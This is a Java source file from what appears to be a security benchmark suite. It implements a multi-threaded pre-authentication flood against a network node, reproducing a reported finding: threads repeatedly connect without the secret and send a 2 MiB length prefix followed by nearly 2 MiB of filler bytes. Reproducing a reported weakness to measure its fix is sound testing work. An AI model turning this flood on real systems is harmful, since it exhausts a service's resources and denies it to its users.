package org.vigne.bench.attack;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.locks.LockSupport;
import org.vigne.net.node.HostPort;

/**
 * The attack of finding 1 of issue 7: {@code connections} threads, each connecting from
 * {@code source} without knowing the secret, sending a 2 MiB length prefix and then almost 2 MiB
 * of bytes, waiting for the node to close, and starting again, until the deadline.
 */
final class PreAuthFlood {
    private static final int PREFIX = 2 * 1024 * 1024;
    private static final int CHUNK = 64 * 1024;

    private final HostPort target;
    private final String source;
    private final AtomicLong connections = new AtomicLong();
    private final AtomicLong bytesSent = new AtomicLong();
    private final AtomicLong closedByNode = new AtomicLong();
    private final AtomicLong failedConnects = new AtomicLong();
    private final List<Thread> threads = new ArrayList<>();
    private volatile long deadlineNanos;

    PreAuthFlood(HostPort target, String source) {
        this.target = target;
        this.source = source;
    }

    /** Starts {@code n} attacking threads for {@code ms} milliseconds. */
    void start(int n, long ms) {
        deadlineNanos = System.nanoTime() + ms * 1_000_000L;
        for (int i = 0; i < n; i++) {
            Thread t = new Thread(this::attack, "attacker-" + i);
            t.setDaemon(true);
            threads.add(t);
            t.start();
        }
    }

    void join() throws InterruptedException {
        for (Thread t : threads) {
            t.join();
        }
    }

    private void attack() {
        byte[] chunk = new byte[CHUNK];
        while (System.nanoTime() < deadlineNanos) {
            Socket s = new Socket();
            try {
                s.bind(new InetSocketAddress(source, 0));
                s.connect(new InetSocketAddress(target.host(), target.port()), 2000);
            } catch (IOException e) {
                failedConnects.incrementAndGet();
                closeQuietly(s);
                LockSupport.parkNanos(1_000_000L);
                continue;
            }
            connections.incrementAndGet();
            try (s) {
                s.setSoTimeout(5000);
                flood(s.getOutputStream(), chunk);
                if (awaitClose(s.getInputStream())) {
                    closedByNode.incrementAndGet();
                }
            } catch (IOException e) {
                closedByNode.incrementAndGet();
            }
        }
    }

    private static void closeQuietly(Socket s) {
        try {
            s.close();
        } catch (IOException e) {
            // Nothing to release.
        }
    }

    private void flood(OutputStream out, byte[] chunk) throws IOException {
        out.write(new byte[] {(byte) (PREFIX >>> 24), (byte) (PREFIX >>> 16), (byte) (PREFIX >>> 8), (byte) PREFIX});
        int left = PREFIX - 16;
        while (left > 0 && System.nanoTime() < deadlineNanos) {
            int n = Math.min(left, chunk.length);
            out.write(chunk, 0, n);
            bytesSent.addAndGet(n);
            left -= n;
        }
        out.flush();
    }

    /** Reads until the node closes (true) or 5 s pass (false). */
    private static boolean awaitClose(InputStream in) {
        byte[] b = new byte[4096];
        try {
            while (in.read(b) >= 0) {
                // The node's hello: ignored.
            }
            return true;
        } catch (IOException e) {
            return !(e instanceof java.net.SocketTimeoutException);
        }
    }

    Map<String, Object> figures() {
        Map<String, Object> m = new LinkedHashMap<>();
        m.put("connections", connections.get());
        m.put("attackBytesSentMiB", Math.round(bytesSent.get() / 1048576.0));
        m.put("closedByNode", closedByNode.get());
        m.put("failedConnects", failedConnects.get());
        return m;
    }
}
